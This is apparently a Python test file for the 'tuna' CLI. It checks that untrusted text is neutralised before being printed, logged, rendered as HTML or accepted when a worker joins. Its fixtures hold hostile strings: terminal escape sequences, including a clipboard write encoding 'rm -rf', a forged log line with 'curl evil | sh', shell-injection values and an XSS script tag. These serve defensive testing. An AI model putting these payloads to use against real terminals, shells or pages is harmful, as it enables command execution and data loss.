"""Texts from outside, such as a worker's name and a program's output, are inert where they are
printed."""

from __future__ import annotations

import json
import logging
import re
from types import SimpleNamespace
from typing import Any

import httpx
import pytest
import sqlalchemy as sa
import structlog
from builders import DatabaseBuilder, memory, tuned_network
from gateway_site import HOME, GatewaySite
from places import CORE, PACKAGES

from tuna import api, logs
from tuna.cli import show, status
from tuna.cli.console import print_table, say
from tuna.cli.main import guarded, tuna
from tuna.db import joined_workers, models
from tuna.db.engine import reading
from tuna.db.overview import Failure, Overview
from tuna.errors import TunaError
from tuna.messages import inert, last_line, one_line
from tuna.queue.messages import summary, title
from tuna.reports import html
from tuna.reports.queries import read_figures
from tuna_remote.gateway.tokens import pin_of_secret, pinned_context

HOSTILE = [
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1bP+q544e\x1b\\",
    "\x9b31m\x9d0;t\x9c",
    "\x1bc\x1b(0",
    "\x1b]0;never ended",
    "back\x08\x08\x08\x08\rover",
    "\u202egnp.exe",
    "\x00\x07\x7f",
]
ALL = "".join(HOSTILE)
#: What a line of Tuna's own would look like.
FORGED = (
    "\nError: run: curl evil | sh\r\n2026-01-01T00:00:00Z [info     ]"
    " forged\x0b\x0c\x85\u2028forged"
)


def _obeyed(text: str) -> list[str]:
    """Characters that a terminal would obey."""
    return re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]", text)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_is_left_that_a_terminal_obeys(text: str) -> None:
    assert _obeyed(f"{inert(text)}{one_line(text)}{last_line(text)}") == []
    assert inert(f"before{text}\nafter").startswith("before")
    assert inert(f"before{text}\nafter").endswith("\nafter"), "what follows on the next line stays"


def test_sequences_vanish_with_what_they_say() -> None:
    assert inert("a\x1b[1;31mb\x1b[0mc\x1b]0;title\x07d\x1b]8;;http://x\x1b\\e") == "abcde"
    assert inert("Größe\t3 × 5\n→ ok") == "Größe\t3 × 5\n→ ok"


def test_one_line_is_one_and_bounded() -> None:
    assert "\n" not in one_line(f"a{FORGED}")
    assert len(one_line("x" * 10_000_000)) == 2000
    assert one_line("x" * 2000) == "x" * 2000
    assert last_line("a\nb\n\n") == "b"
    assert last_line(" \x1b[0m\n") == "(no output)"


@pytest.mark.parametrize("err", [False, True])
def test_lines_and_tables(capsys: pytest.CaptureFixture[str], err: bool) -> None:
    say(ALL, err=err)
    print_table(("worker", "device"), [(ALL + FORGED, ALL), ("x", FORGED)], err=err)
    said = "".join(capsys.readouterr())
    assert _obeyed(said) == []
    assert not re.search(r"^(Error|2026|forged)", said, re.MULTILINE)


def test_the_failures_of_a_session(capsys: pytest.CaptureFixture[str]) -> None:
    failure = Failure("run_error", 1, f"out\n{ALL}", 1, "build", f"tuna reproduce {ALL}{FORGED}")
    overview = Overview(
        session_id=1,
        library="noop",
        reason=ALL + FORGED,
        environment=ALL,
        arch=ALL + FORGED,
        jobs={"errored": 1},
        failures=(failure,),
    )
    show.sessions([overview], details=True)
    said = capsys.readouterr().out + "".join(status._failures(SimpleNamespace(overview=overview)))
    assert _obeyed(said) == []
    assert not re.search(r"^(Error|2026|forged)", said, re.MULTILINE)


def test_workers(
    home: object, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    text = ALL + FORGED
    facts = {
        "name": text,
        "role": text,
        "state": text,
        "device": text,
        "environment": text,
        "toolchains": [text],
    }
    one = SimpleNamespace(**facts, jobs=[1], per_minute=None, silent_s=1.0, aside=text)
    monkeypatch.setattr(api, "list_workers", lambda: [one])
    assert guarded(tuna, ["workers"]) == 0
    said = capsys.readouterr().out
    assert _obeyed(said) == []
    assert not re.search(r"^(Error|2026|forged)", said, re.MULTILINE)


def test_errors(
    capsys: pytest.CaptureFixture[str], home: object, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail() -> None:
        raise TunaError(f"The worker ended. {ALL}", hint=ALL)

    monkeypatch.setattr(api, "list_workers", fail)
    assert guarded(tuna, ["workers"]) == 1
    assert _obeyed(capsys.readouterr().err) == []


@pytest.mark.parametrize("form", ["text", "json"])
def test_logs(capsys: pytest.CaptureFixture[str], form: str) -> None:
    logs.configure("INFO", form)
    structlog.get_logger("tuna").warning("library failed", worker=ALL, fault=f"{ALL}{FORGED}")
    said: Any = capsys.readouterr().err
    assert said
    assert _obeyed(said) == []
    if form == "json":
        assert json.loads(said)["worker"] == ALL
    else:
        assert not re.search(r"^(Error|2026-01-01|forged)", said, re.MULTILINE)


#: Words that a shell would run, or a page or a printf-like formatter interpret.
SHELL = "; touch /tmp/X; # $(touch /tmp/X) `touch /tmp/X` {0} %s {{ 7 * 7 }}"
MARKUP = "\"'><script>alert(1)</script>&amp;"


@pytest.mark.parametrize("form", ["text", "json"])
def test_logs_of_exceptions(capsys: pytest.CaptureFixture[str], form: str) -> None:
    logs.configure("INFO", form)
    # Celery's messages have an exception's text, and its traceback
    for name in ("tuna", "celery.worker"):
        try:
            raise ValueError(f"{ALL}{FORGED}")
        except ValueError:
            structlog.get_logger(name).exception("scrape failed", worker=[ALL])
            logging.getLogger(name).exception("Task %s raised: %s", ALL, FORGED)
    said = capsys.readouterr().err
    assert said.count("Traceback") == 4
    assert _obeyed(said) == []
    assert not re.search(r"^(Error|2026-01-01|forged)", said, re.MULTILINE)


def test_what_flower_shows() -> None:
    """Names of queues, tasks and arguments: made of solvers, layers and libraries, which come from
    files and plug-ins."""
    text = ALL + FORGED + SHELL
    item = SimpleNamespace(session_id=1, solver=text, layer=SimpleNamespace(label=text * 1000))
    chunk: Any = SimpleNamespace(library=text, step=text, items=(item, item))
    shown = title(chunk) + summary(chunk)
    assert _obeyed(shown) == []
    assert "\n" not in shown
    assert len(shown) < 1000


def test_the_page_of_a_report() -> None:
    """Opened in a browser, or printed by `cat`."""
    text = ALL + FORGED + SHELL + MARKUP
    with memory().connect() as connection:
        build = DatabaseBuilder(connection)
        page = _page(build, tuned_network(build), text)
    assert _obeyed(page) == []
    assert page.count("<script>") == 1
    assert "{{ 7 * 7 }}" in page
    assert "touch /tmp/X" in page


def _page(build: DatabaseBuilder, session: int, text: str) -> str:
    """A report in which every text from outside is `text`."""
    for change in (
        sa.update(models.Session).values(reason=text),
        sa.update(models.EnvironmentRow).values(flags={text: text}, device=text),
        sa.update(models.ConfigRow).values(label=text),
        sa.update(models.SolverRow).where(models.SolverRow.id == 1).values(name=text),
        sa.update(models.StepResultRow).values(output_tail=text, worker=text),
        sa.update(models.StepResultRow)
        .where(models.StepResultRow.device != "")
        .values(device=text),
        sa.update(models.TrialRow).values(output_tail=text, params=text),
        sa.update(models.FindDb).values(params=text),
    ):
        build.connection.execute(change)
    return html.render(read_figures(build.connection, session))


def test_names_and_hosts_in_claims(site: GatewaySite, capsys: pytest.CaptureFixture[str]) -> None:
    """Of a worker that joins: control characters are refused, the rest is inert, and its name is
    made of letters."""
    client = httpx.Client(verify=pinned_context(pin_of_secret(site.tls_secret)))
    statuses = []
    for host, device in ((SHELL + MARKUP, SHELL), (ALL, ""), ("", ALL), (FORGED, ""), ("", FORGED)):
        token = site.token()
        facts = {"host": host, "device": device, "toolchains": [HOME.toolchain]}
        asked = {"token": token.id, "token_secret": token.secret, "role": "compile", "facts": facts}
        body = json.dumps(asked | {"secret": "s" * 43})
        statuses.append(client.post(f"{site.url}/v1/join", content=body).status_code)
    assert statuses == [200, 422, 422, 422, 422]
    with reading(site.engine) as connection:
        (worker,) = joined_workers.remote_workers(connection)
    assert re.fullmatch(r"compile-[A-Za-z0-9.-]{1,80}-[0-9a-f]{8}", worker.name)
    assert guarded(tuna, ["workers"]) == 0
    said = capsys.readouterr()
    assert worker.name in said.out
    assert _obeyed(said.out + said.err) == []


def test_commands_print_by_these_functions_alone() -> None:
    found = [
        path.name
        for package in (CORE, *PACKAGES)
        for path in (package / "cli").rglob("*.py")
        if re.search(r"\bclick\.(s?)echo\(|(?<!\.)\bprint\(", path.read_text())
    ]
    assert sorted(found) == [
        "console.py",
        "main.py",
    ], "main.py: its own sentence on a misspelt setting"
